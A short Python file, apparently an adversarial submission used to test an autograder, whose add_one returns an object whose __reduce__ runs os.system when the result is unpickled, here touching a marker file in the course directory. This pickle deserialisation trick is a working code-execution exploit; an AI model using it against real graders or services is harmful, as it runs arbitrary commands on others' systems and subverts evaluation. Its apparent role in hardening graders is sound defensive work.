"""Returns an object whose pickle would run code in the grader."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/adversary-was-here",)


def add_one(x):
    return Bomb()
